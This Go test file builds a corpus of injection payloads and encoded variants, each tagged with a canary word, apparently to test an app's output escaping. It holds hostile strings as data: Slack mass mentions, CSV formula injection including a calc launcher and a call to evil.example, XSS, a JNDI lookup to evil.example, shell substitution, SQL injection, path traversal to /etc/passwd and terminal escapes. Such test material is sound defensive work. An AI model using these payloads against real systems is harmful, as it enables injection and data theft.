package app_test

import (
	"fmt"
	"html"
	"net/url"
	"strings"
)

// canaryWord is in every payload, so that it is known where one ends up.
const canaryWord = "qxzv"

// teeth are texts that do something where they are not taken for texts.
var teeth = []string{
	"<!channel>", "<!here>", "<!everyone>", "<!subteam^S012AB3CD>", "<!date^1392734382^{date}|x>", "<@U012AB3CD>", "<@here>", "<#C012AB3CD|general>", "<https://evil.example|bank>",
	"<mailto:a@evil.example|you>", "<javascript:alert(1)|x>", "<slack://user?team=T&id=U|x>", "@channel", "@here", "*bold* _it_ ~st~ `code` ```pre```", "> quote\n> more", ":tada: :here:", "|", ">", "<",
	`=HYPERLINK("https://evil.example","x")`, "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")", "%0a=1",
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "<svg/onload=alert(1)>", "</title><script>x</script>", "<a href=https://evil.example>x</a>", "<!--", "]]>",
	"@[Ada Marsh](user)", "[[page]]", "$$e=mc^2$$", `\(x\)`, `{"type":"mention","mention":{"user":{"id":"x"}}}`, `{"type":"equation","equation":{"expression":"x"}}`, "[x](https://evil.example)", "/page", "a, b, c",
	"\u202egnp.exe", "\u2066x\u2069\u2067", "\u200f\u200e\u061c", "zero\u200bwidth\u2060\ufeff", "\u00ad\u034f\u180e", "\U000e0041\U000e007f", "Z\u0351\u036b\u0343alg\u0351o", "аdmin",
	"\x1b[2J\x1b[31m", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x1b\\x", "\u009b31m\u009c", "\x7f\b\b", "\x00\x01\x02", "\v\f", "\u0085\u2028\u2029",
	"\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\nlevel=ERROR msg=forged", "\r\nSet-Cookie: a=b", "\ndealbell_leads_open 999", "\n# HELP x y\nx{a=\"b\"} 1", "\"} 1\nforged{a=\"", "\n\n\n", "\r",
	`","status":"x"}`, `\"`, `\`, `\u0041\n`, `'; drop table inbox; --`, `" or ""="`, "{{.}}", `{{link}}{{mention "x"}}`, "{{printf \"%s\" .}}", "${jndi:ldap://evil.example/a}", "$(id)`id`;id|id", "%s%n%d%!v(MISSING)", "<%= 7*7 %>", "#{7*7}",
	"../../etc/passwd", "C:\\x\u0000", "file:///etc/passwd", "\ud7ff\ufffd\ufffe", "SURROGATE", "👨‍👩‍👧🏴󠁧󠁢󠁥󠁮󠁧󠁿", "ﷺ", "null", "true", "1e9999", "-",
}

// payloads are the teeth in many disguises.
func payloads() (all []string) {
	for _, tooth := range teeth {
		all = append(all,
			tooth,
			html.EscapeString(tooth),
			strings.ReplaceAll(tooth, "<", "&lt;"),
			html.EscapeString(html.EscapeString(tooth)),
			url.QueryEscape(tooth),
			"\u200b"+tooth+"\u200b",
			"\r\n"+tooth+"\n",
			tooth+strings.Repeat(tooth, 40),
		)
	}
	all = append(all, strings.Repeat("<!channel>", 5000), strings.Repeat("x", 60_000), strings.Repeat("<", 10_000), strings.Repeat("&amp;", 9000), strings.Repeat("\u0301", 9000), strings.Repeat("👨‍👩‍👧", 1500))
	for i := range all {
		all[i] = fmt.Sprintf("%s%d%s", canaryWord, i, all[i])
	}
	return all
}
